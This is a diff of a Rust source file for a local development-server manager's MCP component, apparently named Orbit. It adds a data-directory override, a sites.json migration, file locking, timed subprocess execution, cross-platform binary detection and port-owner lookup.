@@ -17,7 +17,14 @@ use std::process::Command;
 
 // ─── Path Resolution (shared with cli.rs) ────────────────────────
 
-fn get_orbit_data_dir() -> PathBuf {
+/// Environment variable that relocates the Orbit data directory.
+const DATA_DIR_ENV: &str = "ORBIT_DATA_DIR";
+
+/// Settings entry (inside the default data dir) holding a user-chosen data directory.
+const DATA_DIR_POINTER: &str = "data_dir.txt";
+
+/// Default per-OS data directory (matches Tauri's app_local_data_dir).
+fn default_orbit_data_dir() -> PathBuf {
     #[cfg(target_os = "windows")]
     {
         let local_app_data = std::env::var("LOCALAPPDATA").unwrap_or_else(|_| {
@@ -41,6 +48,50 @@ fn get_orbit_data_dir() -> PathBuf {
     }
 }
 
+/// Configured data directory override and where it came from ("env" or "settings").
+fn data_dir_override() -> Option<(PathBuf, &'static str)> {
+    if let Ok(value) = std::env::var(DATA_DIR_ENV) {
+        if !value.trim().is_empty() {
+            return Some((PathBuf::from(value.trim()), "env"));
+        }
+    }
+    fs::read_to_string(default_orbit_data_dir().join(DATA_DIR_POINTER))
+        .ok()
+        .map(|s| s.trim().to_string())
+        .filter(|s| !s.is_empty())
+        .map(|s| (PathBuf::from(s), "settings"))
+}
+
+/// Ensure a data directory is absolute, exists and is writable.
+fn validate_data_dir(dir: &std::path::Path) -> Result<(), String> {
+    if !dir.is_absolute() {
+        return Err(format!("{} is not an absolute path", dir.display()));
+    }
+    fs::create_dir_all(dir).map_err(|e| format!("Cannot create {}: {}", dir.display(), e))?;
+    let probe = dir.join(".orbit-write-test");
+    fs::write(&probe, b"ok").map_err(|e| format!("{} is not writable: {}", dir.display(), e))?;
+    let _ = fs::remove_file(&probe);
+    Ok(())
+}
+
+/// Get the Orbit data directory: `ORBIT_DATA_DIR`, then the settings entry, then the
+/// per-OS default. An invalid override is reported once and ignored.
+fn get_orbit_data_dir() -> PathBuf {
+    static RESOLVED: std::sync::OnceLock<PathBuf> = std::sync::OnceLock::new();
+    RESOLVED
+        .get_or_init(|| match data_dir_override() {
+            Some((dir, source)) => match validate_data_dir(&dir) {
+                Ok(()) => dir,
+                Err(e) => {
+                    eprintln!("[orbit-mcp] Ignoring {} data dir override: {}", source, e);
+                    default_orbit_data_dir()
+                }
+            },
+            None => default_orbit_data_dir(),
+        })
+        .clone()
+}
+
 fn get_bin_dir() -> PathBuf {
     get_orbit_data_dir().join("bin")
 }
@@ -51,6 +102,9 @@ fn get_config_dir() -> PathBuf {
 
 // ─── Site Store Types ────────────────────────────────────────────
 
+/// Layout version written to sites.json; `migrate_store` upgrades older ones
+const SITES_STORE_VERSION: u32 = 2;
+
 #[derive(Deserialize, Serialize)]
 struct SiteStore {
     version: String,
@@ -60,6 +114,9 @@ struct SiteStore {
 #[derive(Deserialize, Serialize, Clone)]
 struct SiteMetadata {
     domain: String,
+    /// Extra server names served by the same vhost (e.g. www.myapp.test)
+    #[serde(default)]
+    aliases: Vec<String>,
     path: String,
     port: u16,
     php_version: Option<String>,
@@ -67,6 +124,15 @@ struct SiteMetadata {
     php_port: Option<u16>,
     #[serde(default)]
     ssl_enabled: bool,
+    /// Send Strict-Transport-Security on the SSL vhost
+    #[serde(default)]
+    hsts: bool,
+    /// Per-site `gzip on;` in the vhost
+    #[serde(default)]
+    gzip: bool,
+    /// Per-site `brotli on;`, emitted only when nginx has the brotli module
+    #[serde(default)]
+    brotli: bool,
     #[serde(default)]
     ssl_cert_path: Option<String>,
     #[serde(default)]
@@ -90,17 +156,340 @@ fn default_web_server() -> String {
 }
 
 fn read_sites_store() -> Result<SiteStore, String> {
-    let store_path = get_config_dir().join("sites.json");
+    read_sites_store_in(&get_config_dir())
+}
+
+fn read_sites_store_in(config_dir: &std::path::Path) -> Result<SiteStore, String> {
+    let store_path = config_dir.join("sites.json");
     if !store_path.exists() {
         return Ok(SiteStore {
-            version: "1".to_string(),
+            version: SITES_STORE_VERSION.to_string(),
             sites: vec![],
         });
     }
     let content = fs::read_to_string(&store_path)
         .map_err(|e| format!("Failed to read sites.json: {}", e))?;
-    serde_json::from_str(&content)
-        .map_err(|e| format!("Failed to parse sites.json: {}", e))
+    let store = serde_json::from_str(&content)
+        .map_err(|e| format!("Failed to parse sites.json: {}", e))?;
+    Ok(migrate_store(store))
+}
+
+/// Upgrade a store read from disk to the current layout, one version at a
+/// time. Fields missing from older stores are already defaulted by serde;
+/// this fixes up values that need the rest of the site to compute. The new
+/// version is written with the next save.
+fn migrate_store(mut store: SiteStore) -> SiteStore {
+    let version = sites_store_layout(&store.version);
+    if version > SITES_STORE_VERSION {
+        eprintln!("[orbit-mcp] sites.json is version {}, newer than this build understands ({}); reading it as is", store.version, SITES_STORE_VERSION);
+        return store;
+    }
+
+    if version < 2 {
+        store.sites.iter_mut().for_each(migrate_site_to_v2);
+    }
+
+    store.version = SITES_STORE_VERSION.to_string();
+    store
+}
+
+/// Layout version of a sites.json `version` field; "1" (CLI/MCP) and "1.0"
+/// (app) are the same layout
+fn sites_store_layout(version: &str) -> u32 {
+    version.split('.').next()
+        .and_then(|major| major.trim().parse().ok())
+        .unwrap_or(1)
+}
+
+/// v2: lowercase web_server, a port for every site, updated_at set, and
+/// aliases without blanks, repeats or the domain itself
+fn migrate_site_to_v2(site: &mut SiteMetadata) {
+    site.web_server = site.web_server.to_lowercase();
+    if site.port == 0 {
+        site.port = if site.ssl_enabled { 443 } else { 80 };
+    }
+    if site.updated_at.is_empty() {
+        site.updated_at = site.created_at.clone();
+    }
+    let mut aliases: Vec<String> = Vec::new();
+    for alias in site.aliases.drain(..) {
+        let alias = alias.trim().to_lowercase();
+        if !alias.is_empty() && alias != site.domain && !aliases.contains(&alias) {
+            aliases.push(alias);
+        }
+    }
+    site.aliases = aliases;
+}
+
+/// How long to wait for another process to release a lock
+const LOCK_WAIT: std::time::Duration = std::time::Duration::from_secs(10);
+/// A lock file older than this was left behind by a crashed process
+const LOCK_STALE: std::time::Duration = std::time::Duration::from_secs(30);
+
+/// Advisory lock shared with the app and orbit-cli: a lock file created
+/// exclusively next to the data it guards and removed on drop (same scheme
+/// as services/file_lock.rs).
+struct FileLock {
+    path: PathBuf,
+    /// What this holder wrote into the file: its PID and a per-process count
+    owner: String,
+}
+
+impl FileLock {
+    fn acquire(path: &std::path::Path) -> Result<Self, String> {
+        if let Some(parent) = path.parent() {
+            fs::create_dir_all(parent).map_err(|e| format!("Failed to create {}: {}", parent.display(), e))?;
+        }
+        let deadline = std::time::Instant::now() + LOCK_WAIT;
+        loop {
+            match fs::OpenOptions::new().write(true).create_new(true).open(path) {
+                Ok(mut file) => {
+                    static ACQUIRED: std::sync::atomic::AtomicU64 = std::sync::atomic::AtomicU64::new(0);
+                    let owner = format!("{} {}", std::process::id(), ACQUIRED.fetch_add(1, std::sync::atomic::Ordering::Relaxed));
+                    let _ = write!(file, "{}", owner);
+                    return Ok(FileLock { path: path.to_path_buf(), owner });
+                }
+                Err(e) if e.kind() == std::io::ErrorKind::AlreadyExists => {
+                    let stale = fs::metadata(path)
+                        .and_then(|m| m.modified())
+                        .ok()
+                        .and_then(|modified| modified.elapsed().ok())
+                        .is_some_and(|age| age > LOCK_STALE);
+                    if stale {
+                        let _ = fs::remove_file(path);
+                        continue;
+                    }
+                    if std::time::Instant::now() >= deadline {
+                        return Err(format!(
+                            "Timed out waiting for {} (another Orbit process is updating it; delete the file if none is)",
+                            path.display()
+                        ));
+                    }
+                    std::thread::sleep(std::time::Duration::from_millis(25));
+                }
+                Err(e) => return Err(format!("Failed to create lock file {}: {}", path.display(), e)),
+            }
+        }
+    }
+}
+
+impl Drop for FileLock {
+    fn drop(&mut self) {
+        // A holder that outlived LOCK_STALE may have had its lock taken over;
+        // only remove the file while it is still ours
+        if fs::read_to_string(&self.path).is_ok_and(|content| content == self.owner) {
+            let _ = fs::remove_file(&self.path);
+        }
+    }
+}
+
+/// Hold this across a read-modify-write of sites.json
+fn lock_sites_store() -> Result<FileLock, String> {
+    FileLock::acquire(&get_config_dir().join("sites.json.lock"))
+}
+
+// ─── Subprocess Runner (shared with cli.rs) ─────────────────────
+
+/// Default subprocess deadlines in seconds, per operation. Any entry (plus
+/// "default") can be overridden in config/timeouts.json, e.g. `{ "composer": 1800 }`.
+const DEFAULT_TIMEOUTS: &[(&str, u64)] = &[
+    ("version", 10),
+    ("db", 120),
+    ("db_export", 1800),
+    ("db_import", 1800),
+    ("composer", 900),
+    ("npm", 900),
+    ("scaffold", 900),
+    ("install", 1800),
+    ("default", 300),
+    // Whole tools/call, across all of its subprocesses (MCP server only)
+    ("tool", 3600),
+];
+
+/// Set from `--timeout <secs>`; applies to every operation when present.
+static TIMEOUT_OVERRIDE: std::sync::OnceLock<std::time::Duration> = std::sync::OnceLock::new();
+
+fn operation_timeout(operation: &str) -> std::time::Duration {
+    if let Some(timeout) = TIMEOUT_OVERRIDE.get() {
+        return *timeout;
+    }
+    let configured: std::collections::HashMap<String, u64> = fs::read_to_string(get_config_dir().join("timeouts.json"))
+        .ok()
+        .and_then(|content| serde_json::from_str(&content).ok())
+        .unwrap_or_default();
+    let lookup = |key: &str| {
+        configured.get(key).copied()
+            .or_else(|| DEFAULT_TIMEOUTS.iter().find(|(k, _)| *k == key).map(|(_, v)| *v))
+    };
+    let secs = lookup(operation).or_else(|| lookup("default")).unwrap_or(300);
+    std::time::Duration::from_secs(secs.max(1))
+}
+
+/// Like `Command::output()`, but kills the child once `timeout` elapses.
+fn run_with_timeout(cmd: &mut Command, timeout: std::time::Duration) -> Result<std::process::Output, String> {
+    run_with_timeout_input(cmd, None, timeout)
+}
+
+/// `run_with_timeout` that also feeds `input` to the child's stdin.
+fn run_with_timeout_input(
+    cmd: &mut Command,
+    input: Option<Vec<u8>>,
+    timeout: std::time::Duration,
+) -> Result<std::process::Output, String> {
+    use std::process::Stdio;
+
+    cmd.stdin(if input.is_some() { Stdio::piped() } else { Stdio::null() })
+        .stdout(Stdio::piped())
+        .stderr(Stdio::piped());
+    let mut child = cmd.spawn().map_err(|e| e.to_string())?;
+    let _tracked = track_child(&mut child)?;
+
+    // Feed stdin and drain both pipes on threads so a chatty child can't block on a full pipe
+    if let (Some(data), Some(mut stdin)) = (input, child.stdin.take()) {
+        std::thread::spawn(move || {
+            let _ = stdin.write_all(&data);
+        });
+    }
+    let drain = |pipe: Option<Box<dyn IoRead + Send>>| {
+        std::thread::spawn(move || {
+            let mut buf = Vec::new();
+            if let Some(mut pipe) = pipe {
+                let _ = pipe.read_to_end(&mut buf);
+            }
+            buf
+        })
+    };
+    let stdout = drain(child.stdout.take().map(|p| Box::new(p) as Box<dyn IoRead + Send>));
+    let stderr = drain(child.stderr.take().map(|p| Box::new(p) as Box<dyn IoRead + Send>));
+
+    let deadline = std::time::Instant::now() + timeout;
+    let status = loop {
+        match child.try_wait() {
+            Ok(Some(status)) => break status,
+            Ok(None) if std::time::Instant::now() >= deadline => {
+                let _ = child.kill();
+                let _ = child.wait();
+                return Err(format!("timed out after {:?} (process killed)", timeout));
+            }
+            Ok(None) => std::thread::sleep(std::time::Duration::from_millis(50)),
+            Err(e) => return Err(e.to_string()),
+        }
+    };
+
+    Ok(std::process::Output {
+        status,
+        stdout: stdout.join().unwrap_or_default(),
+        stderr: stderr.join().unwrap_or_default(),
+    })
+}
+
+/// `run_with_timeout` that hands each stderr line to `on_line` as it arrives,
+/// for children that report progress there. The lines are still collected
+/// into the returned stderr.
+fn run_with_timeout_stderr_lines(
+    cmd: &mut Command,
+    timeout: std::time::Duration,
+    on_line: &mut dyn FnMut(&str),
+) -> Result<std::process::Output, String> {
+    use std::process::Stdio;
+
+    cmd.stdin(Stdio::null()).stdout(Stdio::piped()).stderr(Stdio::piped());
+    let mut child = cmd.spawn().map_err(|e| e.to_string())?;
+    let _tracked = track_child(&mut child)?;
+
+    let stdout = child.stdout.take().map(|mut pipe| std::thread::spawn(move || {
+        let mut buf = Vec::new();
+        let _ = pipe.read_to_end(&mut buf);
+        buf
+    }));
+    let (tx, rx) = std::sync::mpsc::channel::<String>();
+    if let Some(pipe) = child.stderr.take() {
+        std::thread::spawn(move || {
+            for line in io::BufReader::new(pipe).lines().map_while(Result::ok) {
+                if tx.send(line).is_err() {
+                    break;
+                }
+            }
+        });
+    }
+
+    let mut stderr = String::new();
+    let mut take_line = |line: String, stderr: &mut String| {
+        on_line(&line);
+        stderr.push_str(&line);
+        stderr.push('\n');
+    };
+    let deadline = std::time::Instant::now() + timeout;
+    let status = loop {
+        while let Ok(line) = rx.try_recv() {
+            take_line(line, &mut stderr);
+        }
+        match child.try_wait() {
+            Ok(Some(status)) => break status,
+            Ok(None) if std::time::Instant::now() >= deadline => {
+                let _ = child.kill();
+                let _ = child.wait();
+                return Err(format!("timed out after {:?} (process killed)", timeout));
+            }
+            Ok(None) => std::thread::sleep(std::time::Duration::from_millis(50)),
+            Err(e) => return Err(e.to_string()),
+        }
+    };
+    // The reader thread ends (dropping the sender) once the pipe closes
+    for line in rx {
+        take_line(line, &mut stderr);
+    }
+
+    Ok(std::process::Output {
+        status,
+        stdout: stdout.and_then(|t| t.join().ok()).unwrap_or_default(),
+        stderr: stderr.into_bytes(),
+    })
+}
+
+/// A finished subprocess with its streams kept apart, so callers can branch on
+/// the exit code instead of string-matching merged output.
+#[derive(Debug, Serialize)]
+struct CommandResult {
+    stdout: String,
+    stderr: String,
+    /// `None` when the process was terminated by a signal.
+    code: Option<i32>,
+}
+
+impl CommandResult {
+    fn success(&self) -> bool {
+        self.code == Some(0)
+    }
+
+    /// Both streams concatenated, for version probes that print to either.
+    fn combined(&self) -> String {
+        format!("{}{}", self.stdout, self.stderr)
+    }
+
+    /// The most useful error text (stderr, else stdout) plus the exit code.
+    fn error_detail(&self) -> String {
+        let message = if self.stderr.trim().is_empty() { self.stdout.trim() } else { self.stderr.trim() };
+        match self.code {
+            Some(code) => format!("{} (exit code {})", message, code),
+            None => format!("{} (terminated by signal)", message),
+        }
+    }
+}
+
+impl From<std::process::Output> for CommandResult {
+    fn from(output: std::process::Output) -> Self {
+        CommandResult {
+            stdout: String::from_utf8_lossy(&output.stdout).to_string(),
+            stderr: String::from_utf8_lossy(&output.stderr).to_string(),
+            code: output.status.code(),
+        }
+    }
+}
+
+/// Run `cmd` under the deadline for `operation` and capture a `CommandResult`.
+fn run_command(cmd: &mut Command, operation: &str) -> Result<CommandResult, String> {
+    run_with_timeout(cmd, operation_timeout(operation)).map(CommandResult::from)
 }
 
 // ─── Service Discovery ──────────────────────────────────────────
@@ -125,13 +514,11 @@ fn hidden_command(program: impl AsRef<std::ffi::OsStr>) -> Command {
 }
 
 fn parse_version_output(exe_path: &PathBuf, args: &[&str], pattern: &str, offset: usize) -> String {
-    let output = hidden_command(exe_path).args(args).output();
+    let output = run_command(hidden_command(exe_path).args(args), "version");
 
     match output {
         Ok(out) => {
-            let stdout = String::from_utf8_lossy(&out.stdout);
-            let stderr = String::from_utf8_lossy(&out.stderr);
-            let combined = format!("{}{}", stdout, stderr);
+            let combined = out.combined();
 
             if pattern.is_empty() {
                 let trimmed = combined.trim();
@@ -155,6 +542,15 @@ fn parse_version_output(exe_path: &PathBuf, args: &[&str], pattern: &str, offset
     }
 }
 
+/// Platform-specific executable name: `nginx` → `nginx.exe` on Windows, bare elsewhere.
+fn exe_name(base: &str) -> String {
+    if cfg!(target_os = "windows") {
+        format!("{}.exe", base)
+    } else {
+        base.to_string()
+    }
+}
+
 fn scan_services(bin_path: &PathBuf) -> Vec<ServiceInfo> {
     let mut services = Vec::new();
 
@@ -163,7 +559,7 @@ fn scan_services(bin_path: &PathBuf) -> Vec<ServiceInfo> {
     }
 
     // Nginx
-    let nginx_exe = bin_path.join("nginx").join("nginx.exe");
+    let nginx_exe = bin_path.join("nginx").join(exe_name("nginx"));
     if nginx_exe.exists() {
         let version = parse_version_output(&nginx_exe, &["-v"], "nginx/", 6);
         services.push(ServiceInfo {
@@ -176,10 +572,10 @@ fn scan_services(bin_path: &PathBuf) -> Vec<ServiceInfo> {
 
     // MariaDB
     let mariadb_paths = [
-        bin_path.join("mariadb").join("mariadbd.exe"),
-        bin_path.join("mariadb").join("bin").join("mariadbd.exe"),
-        bin_path.join("mariadb").join("mysqld.exe"),
-        bin_path.join("mariadb").join("bin").join("mysqld.exe"),
+        bin_path.join("mariadb").join(exe_name("mariadbd")),
+        bin_path.join("mariadb").join("bin").join(exe_name("mariadbd")),
+        bin_path.join("mariadb").join(exe_name("mysqld")),
+        bin_path.join("mariadb").join("bin").join(exe_name("mysqld")),
     ];
     for exe_path in &mariadb_paths {
         if exe_path.exists() {
@@ -203,7 +599,7 @@ fn scan_services(bin_path: &PathBuf) -> Vec<ServiceInfo> {
                     if ft.is_dir() {
                         let version_dir = entry.file_name();
                         let version_str = version_dir.to_string_lossy().to_string();
-                        let exe_path = entry.path().join("php-cgi.exe");
+                        let exe_path = entry.path().join(exe_name("php-cgi"));
                         if exe_path.exists() {
                             let version = parse_version_output(&exe_path, &["-v"], "PHP ", 4);
                             services.push(ServiceInfo {
@@ -220,7 +616,7 @@ fn scan_services(bin_path: &PathBuf) -> Vec<ServiceInfo> {
     }
 
     // Redis
-    let redis_exe = bin_path.join("redis").join("redis-server.exe");
+    let redis_exe = bin_path.join("redis").join(exe_name("redis-server"));
     if redis_exe.exists() {
         let version = parse_version_output(&redis_exe, &["--version"], "v=", 2);
         services.push(ServiceInfo {
@@ -233,8 +629,8 @@ fn scan_services(bin_path: &PathBuf) -> Vec<ServiceInfo> {
 
     // Apache
     let apache_paths = [
-        bin_path.join("apache").join("bin").join("httpd.exe"),
-        bin_path.join("apache").join("httpd.exe"),
+        bin_path.join("apache").join("bin").join(exe_name("httpd")),
+        bin_path.join("apache").join(exe_name("httpd")),
     ];
     for exe_path in &apache_paths {
         if exe_path.exists() {
@@ -250,12 +646,12 @@ fn scan_services(bin_path: &PathBuf) -> Vec<ServiceInfo> {
     }
 
     // Node.js
-    let node_exe = bin_path.join("nodejs").join("node.exe");
+    let node_exe = bin_path.join("nodejs").join(exe_name("node"));
     if node_exe.exists() {
-        let output = hidden_command(&node_exe).arg("--version").output();
+        let output = run_command(hidden_command(&node_exe).arg("--version"), "version");
         let version = match output {
             Ok(out) => {
-                let v = String::from_utf8_lossy(&out.stdout).trim().trim_start_matches('v').to_string();
+                let v = out.stdout.trim().trim_start_matches('v').to_string();
                 if v.is_empty() { "unknown".to_string() } else { v }
             }
             Err(_) => "unknown".to_string(),
@@ -269,7 +665,7 @@ fn scan_services(bin_path: &PathBuf) -> Vec<ServiceInfo> {
     }
 
     // Mailpit
-    let mailpit_exe = bin_path.join("mailpit").join("mailpit.exe");
+    let mailpit_exe = bin_path.join("mailpit").join(exe_name("mailpit"));
     if mailpit_exe.exists() {
         services.push(ServiceInfo {
             name: "mailpit".to_string(),
@@ -280,7 +676,7 @@ fn scan_services(bin_path: &PathBuf) -> Vec<ServiceInfo> {
     }
 
     // Meilisearch
-    let meilisearch_exe = bin_path.join("meilisearch").join("meilisearch.exe");
+    let meilisearch_exe = bin_path.join("meilisearch").join(exe_name("meilisearch"));
     if meilisearch_exe.exists() {
         services.push(ServiceInfo {
             name: "meilisearch".to_string(),
@@ -303,8 +699,8 @@ fn scan_services(bin_path: &PathBuf) -> Vec<ServiceInfo> {
 
     // PostgreSQL
     let pg_paths = [
-        bin_path.join("postgresql").join("bin").join("postgres.exe"),
-        bin_path.join("postgresql").join("pgsql").join("bin").join("postgres.exe"),
+        bin_path.join("postgresql").join("bin").join(exe_name("postgres")),
+        bin_path.join("postgresql").join("pgsql").join("bin").join(exe_name("postgres")),
     ];
     for pg_exe in &pg_paths {
         if pg_exe.exists() {
@@ -320,7 +716,7 @@ fn scan_services(bin_path: &PathBuf) -> Vec<ServiceInfo> {
     }
 
     // MongoDB
-    let mongo_exe = bin_path.join("mongodb").join("bin").join("mongod.exe");
+    let mongo_exe = bin_path.join("mongodb").join("bin").join(exe_name("mongod"));
     if mongo_exe.exists() {
         services.push(ServiceInfo {
             name: "mongodb".to_string(),
@@ -332,8 +728,8 @@ fn scan_services(bin_path: &PathBuf) -> Vec<ServiceInfo> {
 
     // Go
     let go_paths = [
-        bin_path.join("go").join("bin").join("go.exe"),
-        bin_path.join("go").join("go.exe"),
+        bin_path.join("go").join("bin").join(exe_name("go")),
+        bin_path.join("go").join(exe_name("go")),
     ];
     for go_exe in &go_paths {
         if go_exe.exists() {
@@ -349,7 +745,7 @@ fn scan_services(bin_path: &PathBuf) -> Vec<ServiceInfo> {
     }
 
     // Deno
-    let deno_exe = bin_path.join("deno").join("deno.exe");
+    let deno_exe = bin_path.join("deno").join(exe_name("deno"));
     if deno_exe.exists() {
         let version = parse_version_output(&deno_exe, &["--version"], "deno ", 5);
         services.push(ServiceInfo {
@@ -361,7 +757,7 @@ fn scan_services(bin_path: &PathBuf) -> Vec<ServiceInfo> {
     }
 
     // Bun
-    let bun_exe = bin_path.join("bun").join("bun.exe");
+    let bun_exe = bin_path.join("bun").join(exe_name("bun"));
     if bun_exe.exists() {
         let version = parse_version_output(&bun_exe, &["--version"], "", 0);
         services.push(ServiceInfo {
@@ -373,7 +769,7 @@ fn scan_services(bin_path: &PathBuf) -> Vec<ServiceInfo> {
     }
 
     // Python
-    let python_exe = bin_path.join("python").join("python.exe");
+    let python_exe = bin_path.join("python").join(exe_name("python"));
     if python_exe.exists() {
         let version = parse_version_output(&python_exe, &["--version"], "Python ", 7);
         services.push(ServiceInfo {
@@ -386,8 +782,8 @@ fn scan_services(bin_path: &PathBuf) -> Vec<ServiceInfo> {
 
     // Rust
     let rust_paths = [
-        bin_path.join("rust").join("rustup-init.exe"),
-        bin_path.join("misc").join("rust").join("rustup-init.exe"),
+        bin_path.join("rust").join(exe_name("rustup-init")),
+        bin_path.join("misc").join("rust").join(exe_name("rustup-init")),
     ];
     for rust_exe in &rust_paths {
         if rust_exe.exists() {
@@ -401,36 +797,145 @@ fn scan_services(bin_path: &PathBuf) -> Vec<ServiceInfo> {
         }
     }
 
+    // SQLite (client only, no server process)
+    let sqlite_exe = bin_path.join("sqlite").join(exe_name("sqlite3"));
+    if sqlite_exe.exists() {
+        // `3.45.1 2024-01-30 16:01:20 ...`
+        let version = parse_version_output(&sqlite_exe, &["--version"], "", 0)
+            .split_whitespace()
+            .next()
+            .unwrap_or("unknown")
+            .to_string();
+        services.push(ServiceInfo {
+            name: "sqlite".to_string(),
+            version,
+            path: sqlite_exe.to_string_lossy().to_string(),
+            service_type: "sqlite".to_string(),
+        });
+    }
+
+    services
+}
+
+/// Last scan: when it ran, which bin dir, and what it found.
+type ServicesScan = (std::time::Instant, PathBuf, Vec<ServiceInfo>);
+
+static SERVICES_CACHE: std::sync::OnceLock<std::sync::Mutex<Option<ServicesScan>>> = std::sync::OnceLock::new();
+
+/// `scan_services` memoized for a few seconds. Every scan spawns a version probe
+/// per binary, so read-only paths that scan repeatedly share one result.
+/// Install/uninstall paths keep calling `scan_services` directly.
+fn scan_services_cached(bin_path: &PathBuf) -> Vec<ServiceInfo> {
+    const TTL: std::time::Duration = std::time::Duration::from_secs(5);
+    let mut cache = SERVICES_CACHE
+        .get_or_init(|| std::sync::Mutex::new(None))
+        .lock()
+        .unwrap_or_else(|e| e.into_inner());
+    if let Some((at, path, services)) = cache.as_ref() {
+        if at.elapsed() < TTL && path == bin_path {
+            return services.clone();
+        }
+    }
+    let services = scan_services(bin_path);
+    *cache = Some((std::time::Instant::now(), bin_path.clone(), services.clone()));
     services
 }
 
+/// Installed services that run a server process. SQLite is only a client, so
+/// status and health views skip it rather than report it stopped.
+fn scan_server_services(bin_path: &PathBuf) -> Vec<ServiceInfo> {
+    scan_services_cached(bin_path).into_iter().filter(|svc| svc.service_type != "sqlite").collect()
+}
+
+/// Drop the cached scan after the bin tree changes.
+fn invalidate_services_cache() {
+    if let Some(cache) = SERVICES_CACHE.get() {
+        *cache.lock().unwrap_or_else(|e| e.into_inner()) = None;
+    }
+}
+
 // ─── Process Management ──────────────────────────────────────────
 
 fn is_port_in_use(port: u16) -> bool {
-    // Try both 127.0.0.1 and 0.0.0.0 — on Windows, services may bind to either
-    std::net::TcpListener::bind(format!("127.0.0.1:{}", port)).is_err()
+    // A listener accepting on loopback answers within the timeout; one bound only
+    // to another interface refuses (or a busy one times out), so any failure
+    // falls back to the bind check.
+    let addr = std::net::SocketAddr::from(([127, 0, 0, 1], port));
+    std::net::TcpStream::connect_timeout(&addr, std::time::Duration::from_millis(250)).is_ok()
+        || std::net::TcpListener::bind(format!("127.0.0.1:{}", port)).is_err()
         || std::net::TcpListener::bind(format!("0.0.0.0:{}", port)).is_err()
 }
 
+/// How long start_all_services waits for PHP to listen before moving on
+const PHP_READY_TIMEOUT: std::time::Duration = std::time::Duration::from_secs(3);
+
+/// Poll until something listens on `port`, giving up after `timeout`
+fn wait_for_port(port: u16, timeout: std::time::Duration) -> bool {
+    let deadline = std::time::Instant::now() + timeout;
+    loop {
+        if is_port_in_use(port) {
+            return true;
+        }
+        if std::time::Instant::now() >= deadline {
+            return false;
+        }
+        std::thread::sleep(std::time::Duration::from_millis(100));
+    }
+}
+
+/// Port used when a PHP version can't be parsed (that of the default PHP 8.4)
+const DEFAULT_PHP_PORT: u16 = 9004;
+
+/// FastCGI port for a PHP version, as the GUI's PHP registry assigns it.
+/// PHP 8 uses 9000 + minor (8.4 → 9004, 8.14 → 9014); other majors get their
+/// own decade (7.4 → 9074). `None` unless the version starts with major.minor.
+fn php_port(version: &str) -> Option<u16> {
+    let mut parts = version.trim().split('.');
+    let major: u16 = parts.next()?.parse().ok()?;
+    let minor: u16 = parts.next()?.parse().ok()?;
+    if minor > 99 {
+        return None;
+    }
+    Some(if major == 8 { 9000 + minor } else { 9000 + (major % 10) * 10 + minor })
+}
+
+/// Port Orbit's installer gives Apache, clear of nginx on 80
+const APACHE_DEFAULT_PORT: u16 = 8082;
+
+/// Port Apache listens on: the first `Listen` in its httpd.conf, else
+/// `APACHE_DEFAULT_PORT`
+fn apache_listen_port(bin_dir: &std::path::Path) -> u16 {
+    fs::read_to_string(bin_dir.join("apache").join("conf").join("httpd.conf"))
+        .ok()
+        .and_then(|conf| conf.lines().find_map(|line| {
+            // `Listen 8082`, `Listen 127.0.0.1:8082` or `Listen [::1]:8082 http`
+            let address = line.trim().strip_prefix("Listen")?.split_whitespace().next()?;
+            address.rsplit(':').next()?.parse().ok()
+        }))
+        .unwrap_or(APACHE_DEFAULT_PORT)
+}
+
+/// Port a service binds, reading Apache's from the httpd.conf under `bin_dir`
+fn service_port_in(name: &str, bin_dir: &std::path::Path) -> Option<u16> {
+    if name.contains("apache") {
+        Some(apache_listen_port(bin_dir))
+    } else {
+        get_service_port(name)
+    }
+}
+
 fn get_service_port(name: &str) -> Option<u16> {
     if name.contains("nginx") {
         Some(80)
     } else if name.contains("apache") {
-        Some(80)
+        Some(apache_listen_port(&get_bin_dir()))
     } else if name.contains("mariadb") {
         Some(3306)
     } else if name.contains("redis") {
         Some(6379)
     } else if name.contains("php") {
-        // php-8.4 → minor=4 → 9000+4=9004 (matches GUI logic)
-        let version_str = name.strip_prefix("php-").unwrap_or("8.4");
-        let parts: Vec<&str> = version_str.split('.').collect();
-        if parts.len() >= 2 {
-            let minor: u16 = parts[1].parse().unwrap_or(4);
-            Some(9000 + minor)
-        } else {
-            Some(9004)
-        }
+        let version = name.strip_prefix("php-").unwrap_or_default();
+        Some(php_port(version).unwrap_or(DEFAULT_PHP_PORT))
     } else if name.contains("mailpit") {
         Some(8025)
     } else if name.contains("meilisearch") {
@@ -448,7 +953,7 @@ fn get_process_image_names(name: &str) -> Vec<&'static str> {
     if name.contains("nginx") {
         vec!["nginx.exe"]
     } else if name.contains("php") {
-        vec!["php-cgi.exe"]
+        vec!["php-cgi.exe", "php-fpm.exe"]
     } else if name.contains("mariadb") {
         vec!["mariadbd.exe", "mysqld.exe"]
     } else if name.contains("redis") {
@@ -480,6 +985,7 @@ fn require_service(name: &str) -> Result<(), String> {
     let display = match name {
         "mariadb" => "MariaDB",
         "postgresql" => "PostgreSQL",
+        "mongodb" => "MongoDB",
         "redis" => "Redis",
         "mailpit" => "Mailpit",
         "meilisearch" => "Meilisearch",
@@ -491,10 +997,249 @@ fn require_service(name: &str) -> Result<(), String> {
     Ok(())
 }
 
+/// PID and image name of the process listening on `port`, if it can be determined.
+fn port_owner(port: u16) -> Option<(u32, String)> {
+    port_owners(port).into_iter().next()
+}
+
+/// PIDs and image names of every process listening on TCP `port` (several
+/// when workers share a socket, or IPv4 and IPv6 are bound separately).
+fn port_owners(port: u16) -> Vec<(u32, String)> {
+    let mut sys = sysinfo::System::new();
+    listening_pids(port)
+        .into_iter()
+        .filter_map(|pid| {
+            let sys_pid = sysinfo::Pid::from_u32(pid);
+            sys.refresh_processes(sysinfo::ProcessesToUpdate::Some(&[sys_pid]), true);
+            let name = sys.process(sys_pid)?.name().to_string_lossy().to_string();
+            Some((pid, name))
+        })
+        .collect()
+}
+
+#[cfg(target_os = "windows")]
+fn listening_pids(port: u16) -> Vec<u32> {
+    let Ok(output) = hidden_command("netstat").args(["-ano", "-p", "TCP"]).output() else {
+        return Vec::new();
+    };
+    let mut pids = parse_netstat_listeners(&String::from_utf8_lossy(&output.stdout), port);
+    if pids.is_empty() {
+        // netstat can miss sockets owned by other sessions; ask PowerShell too
+        let script = format!(
+            "Get-NetTCPConnection -State Listen -LocalPort {} -ErrorAction SilentlyContinue | Select-Object -ExpandProperty OwningProcess",
+            port
+        );
+        if let Ok(output) = hidden_command("powershell").args(["-NoProfile", "-Command", &script]).output() {
+            pids = String::from_utf8_lossy(&output.stdout).split_whitespace().filter_map(|p| p.parse().ok()).collect();
+        }
+    }
+    pids.sort_unstable();
+    pids.dedup();
+    pids
+}
+
